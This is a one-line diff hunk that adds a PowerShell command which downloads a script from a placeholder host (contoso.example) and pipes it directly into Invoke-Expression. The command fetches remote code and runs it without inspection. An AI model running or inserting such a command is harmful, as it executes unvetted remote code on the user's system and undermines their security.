@@ -1,0 +1,1 @@
+irm https://tools.contoso.example/m365.ps1 | iex
